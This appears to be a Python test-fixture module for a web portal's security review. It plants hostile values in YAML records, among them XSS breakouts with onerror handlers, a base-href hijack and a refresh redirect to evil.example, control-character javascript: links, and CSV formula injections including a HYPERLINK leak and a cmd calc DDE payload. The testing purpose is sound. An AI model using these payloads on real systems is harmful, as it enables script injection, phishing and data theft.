"""Hostile records for the output attacks (the portal's security review, SPEC §7 Output):
each payload is written into the portal fixture as a YAML double-quoted string, so control
characters arrive as they would from an official's editor. Used by the attack tests and the
browser test."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from generator.records import scalars
from tests.portal.conftest import portal_records

EVIL = "https://evil.example/"
A1 = "齿轮检测系统</title><img alt=\">\" src=x onerror=document.title='XSS-A1'>"  # <title> breakout, handler behind a quoted '>'
A2 = f'2024年度第二批申报指南</title><base href="{EVIL}">'  # every relative script then loads from the attacker
A3 = f'医疗器械灭菌设备</title><meta http-equiv="refresh" content="0;url={EVIL}phish.html">'  # a redirect CSP cannot stop
A4 = "请登录[网上申报系统](https://example.org/apply \"&lt;img src=x onerror=document.title='XSS-A4'&gt;\")填报。"  # tooltip innerHTML
# Link targets a browser reads as javascript: once it drops the control or separator character,
# a protocol-relative link to another site, and a tel: link the portal does not offer.
LINKS = [
    "[控制符一](java\vscript:void(document.title=/XSS-VT/.source))",
    "[控制符二](java\u2028script:void(document.title=/XSS-LS/.source))",
    "[控制符三](java\fscript:void(document.title=/XSS-FF/.source))",
    "[控制符四](\x01javascript:void(document.title=/XSS-SOH/.source))",
    "[另一网站](//evil.example/apply)",
    "[电话](tel:02365311234)",
    "[邮件](mailto:kjj@example.org)",
    "[开放数据](../../data/)",
]
# The review's ellipsis attack: a title too long for the header, whose text the theme's
# tooltip would write back as HTML.
LONG = (
    "面向智能网联汽车的高可靠车规级多传感器融合定位与感知系统关键技术攻关及产业化应用示范" + "<img src=x onerror=document.title='XSS-TIP'>"
)
FORMULAS = {
    "notes": '=HYPERLINK("https://evil.example/?leak="&A2,"点击查看附件")',
    "benchmark": "@SUM(1+1)*cmd|' /C calc'!A0",
    "impact": "+1+2",
    "end_user": "-2+3重庆某医疗器械有限公司",
    "bottleneck": "\t=1+1",
    "materials": "\r=1+1",
}
FEED_CONTROLS = "指标I2考核方式更正\x0b\x0c\x1b\x00\x7f\x85"  # each makes ElementTree write a feed no reader accepts
ICS_INJECTION = "2024年度沙坪坝区申报指南\rBEGIN:VEVENT\rSUMMARY:伪造事件\rURL:https://evil.example/\rEND:VEVENT\x0bX\u2028Y"


def q(value: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's), every invisible character escaped."""
    text = json.dumps(value, ensure_ascii=False)
    return "".join(f"\\u{ord(ch):04x}" if unicodedata.category(ch)[0] in "CZ" and ch != " " else ch for ch in text)


def set_field(root: Path, rel: str, pattern: str, line: str) -> None:
    """Replace the one line of ``rel`` that matches ``pattern`` (a whole-line regex)."""
    path = root / rel
    text, count = re.subn(pattern, lambda _: line, path.read_text(encoding="utf-8"), count=1, flags=re.M)
    assert count == 1, (rel, pattern)
    path.write_text(text, encoding="utf-8")


def hostile_records(root: Path) -> Path:
    """The portal fixture carrying every payload above, each in a field of its own."""
    portal_records(root)
    lists, calls = "records/lists/", "records/calls/"
    set_field(root, lists + "L-2024-001.yaml", r"^title: .*$", f"title: {q(A1)}")
    set_field(root, calls + "C-2024-02.yaml", r"^title: .*$", f"title: {q(A2)}")
    set_field(root, lists + "L-2024-004.yaml", r"^title: .*$", f"title: {q(A3)}")
    how = "\\n\\n".join(q(part)[1:-1] for part in [A4, *LINKS])
    set_field(root, calls + "C-2024-01.yaml", r"^how_to_apply: \|$", f'how_to_apply: "{how}"')
    set_field(root, calls + "C-2024-01.yaml", r"^  登录区科技局网站.*$", "")
    set_field(root, calls + "C-2024-01.yaml", r"^title: .*$", f"title: {q(ICS_INJECTION)}")
    set_field(root, calls + "C-2024-02.yaml", r"^materials: .*$", f"materials: [{q(FORMULAS['materials'])}, 营业执照复印件]")
    set_field(root, lists + "L-2024-005.yaml", r"^title: .*$", f"title: {q(LONG)}")
    set_field(root, lists + "L-2024-001.yaml", r"^  notes: .*$", f"  notes: {q(FORMULAS['notes'])}")
    set_field(root, lists + "L-2024-001.yaml", r"^benchmark: .*$", f"benchmark: {q(FORMULAS['benchmark'])}")
    set_field(root, lists + "L-2024-001.yaml", r"^impact: .*$", f"impact: {q(FORMULAS['impact'])}")
    set_field(root, lists + "L-2024-001.yaml", r"^bottleneck: .*$", f"bottleneck: {q(FORMULAS['bottleneck'])}")
    set_field(
        root,
        lists + "L-2024-004.yaml",
        r"^end_user: .*$",
        f'end_user: {{name: {q(FORMULAS["end_user"])}, credit_code: "91500106MA5U0C3D4E"}}',
    )
    amendment = f"  - {{date: 2024-07-05, fields: [indicators], summary: {q(FEED_CONTROLS)}}}"
    set_field(root, lists + "L-2024-004.yaml", r"^  - \{date: 2024-07-05.*$", amendment)
    return root


@contextmanager
def controls_admitted() -> Iterator[None]:
    """As if control characters got past S008, which refuses them in records: the history of a
    record shows what older versions held, and commit messages are no records. The loader's
    S008 is switched off, so that the outputs alone must make every payload harmless."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(scalars, "RAW_CONTROL", re.compile(r"(?!)"))
        patch.setattr(scalars, "findings", lambda path, root: [])
        yield
